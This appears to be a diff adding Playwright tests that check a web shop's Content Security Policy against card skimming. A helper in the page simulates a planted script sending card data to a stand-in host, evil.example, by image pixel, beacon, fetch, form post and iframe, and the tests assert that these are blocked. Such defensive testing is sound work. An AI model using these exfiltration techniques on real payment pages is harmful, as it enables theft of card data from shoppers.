@@ -1,4 +1,4 @@
-import { chromium, type Page } from '@playwright/test';
+import { chromium, type Page, type Request } from '@playwright/test';
 import { database } from '../books.ts';
 import { startEdge, type Edge } from '../edge/start-edge.ts';
 import { expect, test } from '../fixtures.ts';
@@ -67,6 +67,79 @@ for (const path of ['/pay', '/login']) {
     });
   });
 }
+
+/** Runs in the page: the ways by which a planted script would carry a card out. */
+async function carryOut(foreign: string): Promise<string[]> {
+  const blocked: string[] = [];
+  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+    blocked.push(effectiveDirective),
+  );
+  new Image().src = `${foreign}/pixel?card=1`;
+  navigator.sendBeacon(`${foreign}/beacon`, 'card');
+  await fetch(`${foreign}/fetch`, { mode: 'no-cors' }).catch(() => {});
+  const form = document.createElement('form');
+  form.action = `${foreign}/form`;
+  form.target = 'nowhere';
+  const frame = document.createElement('iframe');
+  frame.src = `${foreign}/frame`;
+  document.body.append(form, frame);
+  form.submit();
+  await new Promise((resolve) => setTimeout(resolve, 1_000));
+  return blocked.toSorted();
+}
+
+/** A 3-D Secure check may be any bank's: only where somebody may pay, frames and forms are open to https. */
+const CARRIED_OUT = [
+  ['/pay', ['connect-src', 'connect-src', 'img-src']],
+  ['/pay-step', ['connect-src', 'connect-src', 'img-src']],
+  ['/login', ['connect-src', 'connect-src', 'form-action', 'frame-src', 'img-src']],
+  ['/share.html', ['connect-src', 'connect-src', 'form-action', 'frame-src', 'img-src']],
+] as const;
+
+for (const [path, directives] of CARRIED_OUT) {
+  test(`a planted script carries nothing out of ${path} by ${directives.join(', ')}`, ONCE, async () => {
+    await visit(async (page) => {
+      const left: Request[] = [];
+      page.on('request', (asked) => {
+        if (new URL(asked.url()).hostname === 'evil.example') left.push(asked);
+      });
+      await page.goto(`${edge.url}${path}`, { waitUntil: 'networkidle' });
+      expect(await page.evaluate(carryOut, 'https://evil.example')).toEqual(directives);
+      // The browser names even those that it stopped itself.
+      const gone = left
+        .filter((asked) => asked.failure()?.errorText !== 'csp')
+        .map((asked) => asked.resourceType());
+      expect(gone.filter((type) => type !== 'document')).toEqual([]);
+    });
+  });
+}
+
+test('a face comes from the hosts of the settings', ONCE, async () => {
+  const faces = await startEdge('https', { IMAGE_ORIGINS: 'https://faces.example' });
+  try {
+    await visit(async (page) => {
+      await page.route('https://faces.example/**', (route) =>
+        route.fulfill({ contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"/>' }),
+      );
+      await page.goto(`${faces.url}/pay`);
+      const load = (url: string) =>
+        page.evaluate(
+          (src) =>
+            new Promise((resolve) => {
+              const image = new Image();
+              image.onload = () => resolve('shown');
+              image.onerror = () => resolve('blocked');
+              image.src = src;
+            }),
+          url,
+        );
+      expect(await load('https://faces.example/a.svg')).toBe('shown');
+      expect(await load('https://faces.example.evil.example/a.svg')).toBe('blocked');
+    });
+  } finally {
+    await faces.stop();
+  }
+});
 
 test('no page of ours breaks its own policy', ONCE, async () => {
   const complaints: string[] = [];
